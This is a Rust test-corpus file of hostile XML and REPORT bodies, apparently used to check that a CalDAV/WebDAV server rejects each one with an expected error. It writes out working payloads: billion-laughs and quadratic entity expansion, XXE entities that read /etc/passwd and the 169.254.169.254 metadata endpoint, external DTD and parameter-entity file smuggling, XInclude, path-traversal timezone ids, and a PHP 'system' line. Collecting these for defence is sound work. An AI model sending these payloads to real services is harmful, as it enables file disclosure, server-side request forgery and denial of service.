//! Hostile XML: what attacks a parser, and what attacks the reader behind it.

use super::corpus::Case;
use super::corpus::many;

const D: &str = "xmlns=\"DAV:\"";
const C: &str = "xmlns=\"urn:ietf:params:xml:ns:caldav\" xmlns:d=\"DAV:\"";

/// Bodies that are refused whatever they ask for: sent as PROPFIND, PROPPATCH and REPORT.
pub fn documents() -> Vec<Case> {
    let mut cases = document_types();
    cases.extend(references());
    cases.extend(sizes());
    cases.extend(namespaces());
    cases.extend(encodings());
    cases.extend(malformed());
    cases
}

fn propfind(inside: &str) -> String {
    format!("<propfind {D}>{inside}</propfind>")
}

fn document_types() -> Vec<Case> {
    let body = "<propfind xmlns=\"DAV:\"><prop>&a;</prop></propfind>";
    let laughs = (1..10).fold("<!ENTITY a0 \"ha\">".to_owned(), |all, n| {
        format!("{all}<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10))
    });
    let long = "A".repeat(400_000);
    [
        ("billion-laughs", format!("<!DOCTYPE p [{laughs}<!ENTITY a \"&a9;\">]>{body}")),
        (
            "quadratic-blowup",
            format!("<!DOCTYPE p [<!ENTITY a \"{long}\">]><propfind {D}>{}</propfind>", "&a;".repeat(50_000)),
        ),
        ("external-file", format!("<!DOCTYPE p [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>{body}")),
        ("external-http", format!("<!DOCTYPE p [<!ENTITY a SYSTEM \"http://169.254.169.254/latest/\">]>{body}")),
        ("external-public", format!("<!DOCTYPE p [<!ENTITY a PUBLIC \"-//X//Y\" \"file:///dev/random\">]>{body}")),
        ("external-subset", format!("<!DOCTYPE p SYSTEM \"http://example.org/evil.dtd\">{body}")),
        (
            "parameter-entity",
            format!("<!DOCTYPE p [<!ENTITY % x SYSTEM \"http://example.org/x\"> %x; %x;]>{body}"),
        ),
        (
            "parameter-entity-smuggles-a-file",
            format!("<!DOCTYPE p [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY a 'x%f;'>\">%e;]>{body}"),
        ),
        ("attribute-default", format!("<!DOCTYPE propfind [<!ATTLIST propfind xmlns CDATA \"DAV:\">]>{body}")),
        ("entity-in-an-attribute", "<!DOCTYPE p [<!ENTITY a \"b\">]><propfind xmlns=\"DAV:\" x=\"&a;\"/>".to_owned()),
        ("doctype-behind-a-comment", format!("<!-- x --><!DOCTYPE p>{body}")),
        ("doctype-behind-a-declaration", format!("<?xml version=\"1.0\"?>\n<!DOCTYPE p []>{body}")),
        ("doctype-behind-a-byte-order-mark", format!("\u{feff}<!DOCTYPE p>{body}")),
        ("doctype-inside-the-root", format!("<propfind {D}><!DOCTYPE p></propfind>")),
        ("doctype-behind-the-root", format!("<propfind {D}/><!DOCTYPE p>")),
        ("doctype-of-a-megabyte", format!("<!DOCTYPE p [<!-- {} -->]>{body}", "-x".repeat(300_000))),
        ("doctype-of-a-thousand-entities", {
            let entities = many(10_000, |n| format!("<!ENTITY e{n} \"{n}\">"));
            format!("<!DOCTYPE p [{entities}]>{body}")
        }),
        ("notation", format!("<!DOCTYPE p [<!NOTATION n SYSTEM \"/bin/sh\">]>{body}")),
    ]
    .into_iter()
    .map(|(name, body)| Case::text(name, body, "document type declarations are not accepted"))
    .chain([
        Case::text("doctype-in-small-letters", "<!doctype p><propfind xmlns=\"DAV:\"/>", "xml"),
        Case::text("two-doctypes", format!("<!DOCTYPE p><!DOCTYPE q>{body}"), "document type"),
        Case::text("doctype-that-never-ends", format!("<!DOCTYPE p [{laughs}"), "xml"),
    ])
    .collect()
}

fn references() -> Vec<Case> {
    let inside = |reference: &str| propfind(&format!("<prop>{reference}</prop>"));
    [
        ("entity-that-nobody-declared", "&xxe;", "unknown entity"),
        ("html-entity", "&nbsp;", "unknown entity"),
        ("entity-with-a-long-name", &format!("&{};", "n".repeat(200_000)), "unknown entity"),
        ("reference-to-nul", "&#0;", "xml"),
        ("reference-to-a-control-character", "&#8;", "u+0008"),
        ("reference-to-a-surrogate", "&#xD800;", "xml"),
        ("reference-to-a-non-character", "&#xFFFE;", "u+fffe"),
        ("reference-beyond-unicode", "&#x110000;", "xml"),
        ("reference-with-a-huge-number", "&#99999999999999999999999;", "xml"),
        ("reference-with-a-sign", "&#-1;", "xml"),
        ("reference-without-digits", "&#;", "xml"),
        ("reference-without-hexadecimal-digits", "&#x;", "xml"),
        ("bare-ampersand", "a & b", "xml"),
        ("ampersand-at-the-end", "a &", "xml"),
        ("reference-without-semicolon", "&lt ", "xml"),
    ]
    .into_iter()
    .map(|(name, reference, rule)| Case::text(name, inside(reference), rule))
    .collect()
}

fn sizes() -> Vec<Case> {
    let nested = |depth: usize| format!("<propfind {D}>{}{}</propfind>", "<a>".repeat(depth), "</a>".repeat(depth));
    let attributes = |count: usize| many(count, |n| format!(" a{n}=\"\""));
    vec![
        Case::text("nested-by-one-too-many", nested(32), "nested deeper than 32"),
        Case::text("nested-a-thousand-deep", nested(1_000), "nested deeper than 32"),
        Case::text("nested-a-hundred-thousand-deep", nested(100_000), "nested deeper than 32"),
        Case::text("opened-and-never-closed", "<a>".repeat(300_000), "nested deeper than 32"),
        Case::text("closed-and-never-opened", "</a>".repeat(200_000), "xml"),
        Case::text("elements-one-too-many", propfind(&"<a/>".repeat(50_000)), "more than 50000 elements"),
        Case::text("elements-by-the-megabyte", propfind(&"<a/>".repeat(260_000)), "more than 50000 elements"),
        Case::text("attributes-one-too-many", format!("<propfind {D}{}/>", attributes(64)), "more than 64 attributes"),
        Case::text("attributes-eighty-thousand", format!("<propfind {D}{}/>", attributes(80_000)), "64 attributes"),
        Case::text("attributes-eighty-thousand-equal", format!("<propfind {D}{}/>", " a=\"\"".repeat(80_000)), "twice"),
        Case::text(
            "attributes-on-many-elements",
            propfind(&format!("<a{}/>", attributes(65)).repeat(1_000)),
            "64 attributes",
        ),
        Case::text(
            "namespaces-forty-thousand",
            format!("<propfind {D}{}/>", many(40_000, |n| format!(" xmlns:a{n}=\"u\""))),
            "xml",
        ),
        Case::text(
            "namespaces-two-hundred-and-fifty-six",
            format!("<propfind {D}{}/>", many(256, |n| format!(" xmlns:a{n}=\"u\""))),
            "xml",
        ),
        Case::text("body-one-byte-too-long", propfind(&" ".repeat(1_048_577 - propfind("").len())), "larger than"),
        Case::text("text-too-long", propfind(&"x".repeat(1 << 21)), "larger than"),
        Case::text("attribute-value-too-long", format!("<propfind {D} a=\"{}\"/>", "x".repeat(1 << 20)), "larger than"),
        Case::text("element-name-too-long", format!("<{}/>", "x".repeat(1_048_570)), "xml"),
        Case::text("comment-too-long", format!("<!--{}--><propfind {D}/>", "x".repeat(1 << 20)), "larger than"),
    ]
}

fn namespaces() -> Vec<Case> {
    [
        ("prefix-that-nobody-declared", "<d:propfind/>".to_owned(), "not declared"),
        ("attribute-prefix-that-nobody-declared", format!("<propfind {D} q:a=\"1\"/>"), "not declared"),
        ("prefix-declared-beside-not-above", propfind("<a xmlns:q=\"u\"/><q:b/>"), "not declared"),
        ("prefix-declared-twice", "<a:propfind xmlns:a=\"DAV:\" xmlns:a=\"urn:x\"/>".to_owned(), "xml"),
        ("default-namespace-declared-twice", "<propfind xmlns=\"DAV:\" xmlns=\"urn:x\"/>".to_owned(), "xml"),
        ("xml-prefix-rebound", format!("<propfind {D} xmlns:xml=\"urn:evil\"/>"), "xml"),
        ("xmlns-prefix-declared", format!("<propfind {D} xmlns:xmlns=\"urn:evil\"/>"), "xml"),
        (
            "same-attribute-by-two-prefixes",
            "<d:propfind xmlns:d=\"DAV:\" xmlns:e=\"DAV:\" d:a=\"\" e:a=\"\"/>".to_owned(),
            "twice",
        ),
        ("name-with-two-colons", "<a:b:c xmlns:a=\"DAV:\"/>".to_owned(), "."),
        ("name-of-a-colon", "<:/>".to_owned(), "."),
        ("no-namespace-at-all", "<propfind><allprop/></propfind>".to_owned(), "propfind"),
        ("namespace-without-its-colon", "<propfind xmlns=\"DAV\"><allprop/></propfind>".to_owned(), "propfind"),
        ("namespace-in-small-letters", "<propfind xmlns=\"dav:\"><allprop/></propfind>".to_owned(), "propfind"),
        ("namespace-with-a-look-alike", "<propfind xmlns=\"D\u{410}V:\"><allprop/></propfind>".to_owned(), "propfind"),
        ("namespace-with-white-space", "<propfind xmlns=\" DAV:\"><allprop/></propfind>".to_owned(), "propfind"),
        ("root-in-capitals", "<PROPFIND xmlns=\"DAV:\"><allprop/></PROPFIND>".to_owned(), "propfind"),
        (
            "include",
            "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>".to_owned(),
            ".",
        ),
        ("style-sheet", "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>".to_owned(), "."),
        ("soap", "<e:Envelope xmlns:e=\"http://schemas.xmlsoap.org/soap/envelope/\"/>".to_owned(), "."),
        ("html", "<html><body onload=\"alert(1)\"/></html>".to_owned(), "."),
    ]
    .into_iter()
    .map(|(name, body, rule)| Case::text(name, body, rule))
    .collect()
}

fn encodings() -> Vec<Case> {
    let plain = "<?xml version=\"1.0\"?><propfind xmlns=\"DAV:\"><allprop/></propfind>";
    let wide = |mark: &[u8], big: bool| {
        let units =
            plain.encode_utf16().flat_map(move |unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() });
        mark.iter().copied().chain(units).collect::<Vec<u8>>()
    };
    let utf32: Vec<u8> = plain.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect();
    let inside = |octets: &[u8]| [b"<propfind xmlns=\"DAV:\"><a>".as_slice(), octets, b"</a></propfind>"].concat();
    let declared = |name: &str| plain.replace("\"1.0\"", &format!("\"1.0\" encoding=\"{name}\"")).into_bytes();
    [
        ("utf-16-little-endian", wide(&[0xff, 0xfe], false), "not utf-8"),
        ("utf-16-big-endian", wide(&[0xfe, 0xff], true), "not utf-8"),
        ("utf-16-without-a-mark", wide(&[], false), "u+0000"),
        ("utf-32", utf32, "u+0000"),
        ("declared-utf-16", declared("UTF-16"), "not utf-8"),
        ("declared-utf-7", declared("UTF-7"), "not utf-8"),
        ("declared-latin-1", declared("ISO-8859-1"), "not utf-8"),
        ("declared-ebcdic", declared("IBM037"), "not utf-8"),
        ("declared-nonsense", declared("x-no-such-thing"), "not utf-8"),
        ("utf-7-tags", b"+ADw-propfind xmlns=+ACI-DAV:+ACI-/+AD4-".to_vec(), "xml"),
        ("latin-1-octets", inside(&[b'S', 0xf8, b'r']), "not utf-8"),
        ("overlong-slash", inside(&[0xc0, 0xaf]), "not utf-8"),
        ("overlong-nul", inside(&[0xc0, 0x80]), "not utf-8"),
        ("overlong-in-three-octets", inside(&[0xe0, 0x80, 0xaf]), "not utf-8"),
        ("encoded-surrogate", inside(&[0xed, 0xa0, 0x80]), "not utf-8"),
        ("encoded-surrogate-pair", inside(&[0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80]), "not utf-8"),
        ("beyond-unicode", inside(&[0xf4, 0x90, 0x80, 0x80]), "not utf-8"),
        ("five-octet-sequence", inside(&[0xf8, 0x88, 0x80, 0x80, 0x80]), "not utf-8"),
        ("lone-continuation", inside(&[0x80]), "not utf-8"),
        ("cut-off-sequence", inside(&[0xe2, 0x82]), "not utf-8"),
        ("cut-off-at-the-end", [plain.as_bytes(), &[0xf0, 0x9f]].concat(), "not utf-8"),
        ("nul-in-text", inside(&[0]), "u+0000"),
        ("nul-in-a-name", b"<prop\0find xmlns=\"DAV:\"/>".to_vec(), "u+0000"),
        ("nul-behind-the-root", [plain.as_bytes(), &[0; 64]].concat(), "u+0000"),
        ("escape-character", inside(&[0x1b]), "u+001b"),
        ("vertical-tab", inside(&[0x0b]), "u+000b"),
        ("non-character", inside("\u{ffff}".as_bytes()), "u+ffff"),
        ("gzip-without-saying-so", vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xb3, 0x29], "not utf-8"),
        ("binary", (0..=255).collect(), "not utf-8"),
    ]
    .into_iter()
    .map(|(name, body, rule)| Case::new(name, body, rule))
    .collect()
}

fn malformed() -> Vec<Case> {
    [
        ("only-a-declaration", "<?xml version=\"1.0\"?>", "xml"),
        ("only-a-comment", "<!-- nothing -->", "xml"),
        ("only-an-instruction", "<?php system('id'); ?>", "xml"),
        ("only-cdata", "<![CDATA[<propfind/>]]>", "xml"),
        ("json", "{\"propfind\": {}}", "xml"),
        ("form", "propfind=allprop&depth=1", "xml"),
        ("text-in-front", "x<propfind xmlns=\"DAV:\"/>", "xml"),
        ("text-behind", "<propfind xmlns=\"DAV:\"/>x", "xml"),
        ("two-roots", "<propfind xmlns=\"DAV:\"/><propfind xmlns=\"DAV:\"/>", "second root"),
        ("root-not-closed", "<propfind xmlns=\"DAV:\">", "not closed"),
        ("closed-by-another", "<propfind xmlns=\"DAV:\"></propfund>", "xml"),
        ("tags-crossed", "<propfind xmlns=\"DAV:\"><a><b></a></b></propfind>", "xml"),
        ("tag-cut-off", "<propfind xmlns=\"DAV:\"", "xml"),
        ("attribute-without-quotes", "<propfind xmlns=DAV:/>", "xml"),
        ("attribute-without-value", "<propfind xmlns=\"DAV:\" depth/>", "xml"),
        ("attribute-with-one-quote", "<propfind xmlns=\"DAV:/>", "xml"),
        ("attribute-twice", "<propfind xmlns=\"DAV:\" a=\"1\" a=\"2\"/>", "twice"),
        ("comment-that-never-ends", "<propfind xmlns=\"DAV:\"><!-- ", "xml"),
        ("comment-with-two-dashes", "<propfind xmlns=\"DAV:\"><!-- a -- b --></propfind>", "xml"),
        ("cdata-that-never-ends", "<propfind xmlns=\"DAV:\"><![CDATA[ ", "xml"),
        ("instruction-that-never-ends", "<propfind xmlns=\"DAV:\"><?x ", "xml"),
        ("space-before-the-name", "< propfind xmlns=\"DAV:\"/>", "is not a name"),
        ("empty-tag", "<>", "."),
        ("element-without-a-name", "<propfind xmlns=\"DAV:\"><prop><\n/></prop></propfind>", "is not a name"),
        ("name-with-an-at-sign", "<propfind xmlns=\"DAV:\"><prop><a@b/></prop></propfind>", "is not a name"),
        ("name-that-begins-with-a-digit", "<propfind xmlns=\"DAV:\"><prop><1/></prop></propfind>", "is not a name"),
        ("nothing-but-brackets", "<<<<<<<<<<<<<<<<", "xml"),
    ]
    .into_iter()
    .map(|(name, body, rule)| Case::text(name, body, rule))
    .chain([
        Case::text("brackets-by-the-megabyte", "<".repeat(1_000_000), "xml"),
        Case::text("ampersands-by-the-megabyte", propfind(&"&".repeat(1_000_000)), "xml"),
        Case::text("quotes-by-the-megabyte", format!("<a b={}", "\"".repeat(1_000_000)), "xml"),
        Case::text("comments-by-the-megabyte", "<!---->".repeat(140_000), "xml"),
        Case::text("instructions-by-the-megabyte", "<?a?>".repeat(200_000), "xml"),
    ])
    .collect()
}

/// REPORT bodies that are well-formed and ask for what must not be given.
pub fn reports() -> Vec<Case> {
    let mut cases = filters();
    cases.extend(questions());
    cases
}

fn query(filter: &str) -> String {
    format!("<calendar-query {C}><d:prop><d:getetag/></d:prop><filter>{filter}</filter></calendar-query>")
}

fn events(inside: &str) -> String {
    query(&format!("<comp-filter name=\"VCALENDAR\"><comp-filter name=\"VEVENT\">{inside}</comp-filter></comp-filter>"))
}

fn filters() -> Vec<Case> {
    let matching = |inside: &str| events(&format!("<prop-filter name=\"SUMMARY\">{inside}</prop-filter>"));
    let zone = |text: &str| {
        let query = events("<time-range start=\"20260301T000000Z\" end=\"20260401T000000Z\"/>");
        query.replace("</filter>", &format!("</filter><timezone>{text}</timezone>"))
    };
    vec![
        Case::text("query-without-filter", format!("<calendar-query {C}><d:prop/></calendar-query>"), "filter"),
        Case::text("query-with-an-empty-filter", query(""), "filter"),
        Case::text("query-for-another-root", query("<comp-filter name=\"VCARD\"/>"), "filter"),
        Case::text("query-without-a-name", query("<comp-filter/>"), "filter"),
        Case::text(
            "range-backwards",
            events("<time-range start=\"20270101T000000Z\" end=\"20260101T000000Z\"/>"),
            "filter",
        ),
        Case::text(
            "range-of-nothing",
            events("<time-range start=\"20260101T000000Z\" end=\"20260101T000000Z\"/>"),
            "filter",
        ),
        Case::text("range-without-bounds", events("<time-range/>"), "filter"),
        Case::text("range-not-in-utc", events("<time-range start=\"20260101T000000\"/>"), "filter"),
        Case::text("range-of-days", events("<time-range start=\"20260101\" end=\"20260102\"/>"), "filter"),
        Case::text("range-of-words", events("<time-range start=\"yesterday\"/>"), "filter"),
        Case::text("range-on-february-30", events("<time-range start=\"20260230T000000Z\"/>"), "filter"),
        Case::text("range-with-a-long-year", events("<time-range start=\"9999999999990101T000000Z\"/>"), "filter"),
        Case::text("range-before-christ", events("<time-range start=\"-00010101T000000Z\"/>"), "filter"),
        Case::text(
            "collation-that-is-unknown",
            matching("<text-match collation=\"i;evil\">x</text-match>"),
            "collation",
        ),
        Case::text(
            "collation-with-a-long-name",
            matching(&format!("<text-match collation=\"{}\"/>", "x".repeat(90_000))),
            "collation",
        ),
        Case::text(
            "negation-that-is-no-word",
            matching("<text-match negate-condition=\"perhaps\">x</text-match>"),
            "filter",
        ),
        Case::text("zone-that-is-no-calendar", zone("BEGIN:VCALENDAR"), "valid-timezone"),
        Case::text("zone-that-names-a-file", zone("../../../../etc/passwd"), "valid-timezone"),
        Case::text("zone-nested", zone(&"BEGIN:VTIMEZONE\n".repeat(30_000)), "valid-timezone"),
        Case::text(
            "zone-id-that-names-a-file",
            events("<time-range start=\"20260301T000000Z\"/>")
                .replace("</filter>", "</filter><timezone-id>../../etc/passwd</timezone-id>"),
            "valid-timezone",
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "a table of cases reads better whole")]
fn questions() -> Vec<Case> {
    let sync = |inside: &str| format!("<sync-collection {D}>{inside}<prop><getetag/></prop></sync-collection>");
    let data = |inside: &str| {
        events("<time-range start=\"20260301T000000Z\" end=\"20260401T000000Z\"/>")
            .replace("<d:getetag/>", &format!("<calendar-data>{inside}</calendar-data>"))
    };
    vec![
        Case::text("report-that-is-unknown", format!("<no-such-report {D}/>"), "supported-report"),
        Case::text(
            "report-of-another-service",
            "<addressbook-query xmlns=\"urn:ietf:params:xml:ns:carddav\"/>",
            "supported-report",
        ),
        Case::text("version-tree", format!("<version-tree {D}/>"), "supported-report"),
        Case::text(
            "token-that-is-forged",
            sync("<sync-token>https://anteroom.dev/ns/sync/1</sync-token><sync-level>1</sync-level>"),
            "valid-sync-token",
        ),
        Case::text(
            "token-that-is-a-script",
            sync("<sync-token>javascript:alert(1)</sync-token><sync-level>1</sync-level>"),
            "valid-sync-token",
        ),
        Case::text(
            "token-of-a-megabyte",
            sync(&format!("<sync-token>{}</sync-token><sync-level>1</sync-level>", "x".repeat(1_000_000))),
            "valid-sync-token",
        ),
        Case::text(
            "token-with-a-huge-number",
            sync("<sync-token>99999999999999999999999999</sync-token><sync-level>1</sync-level>"),
            "valid-sync-token",
        ),
        Case::text("level-that-is-unknown", sync("<sync-token/><sync-level>2</sync-level>"), "sync"),
        Case::text(
            "limit-of-nothing",
            sync("<sync-token/><sync-level>1</sync-level><limit><nresults>0</nresults></limit>"),
            "nresults",
        ),
        Case::text(
            "limit-below-nothing",
            sync("<sync-token/><sync-level>1</sync-level><limit><nresults>-1</nresults></limit>"),
            "nresults",
        ),
        Case::text(
            "limit-that-is-no-number",
            sync("<sync-token/><sync-level>1</sync-level><limit><nresults>many</nresults></limit>"),
            "nresults",
        ),
        Case::text(
            "hrefs-one-too-many",
            format!("<calendar-multiget {C}><d:prop/>{}</calendar-multiget>", "<d:href>/x</d:href>".repeat(5_001)),
            "5000",
        ),
        Case::text(
            "hrefs-forty-thousand",
            format!("<calendar-multiget {C}><d:prop/>{}</calendar-multiget>", "<d:href/>".repeat(49_000)),
            "5000",
        ),
        Case::text("expand-without-bounds", data("<expand/>"), "expand"),
        Case::text("expand-backwards", data("<expand start=\"20270101T000000Z\" end=\"20260101T000000Z\"/>"), "expand"),
        Case::text("expand-not-in-utc", data("<expand start=\"20260101T000000\" end=\"20270101T000000\"/>"), "utc"),
        Case::text("free-busy-without-a-range", format!("<free-busy-query {C}/>"), "time-range"),
        Case::text(
            "free-busy-backwards",
            format!(
                "<free-busy-query {C}><time-range start=\"20270101T000000Z\" end=\"20260101T000000Z\"/></free-busy-query>"
            ),
            "time-range",
        ),
        Case::text("search-that-asks-nothing", format!("<principal-property-search {D}/>"), "."),
    ]
}
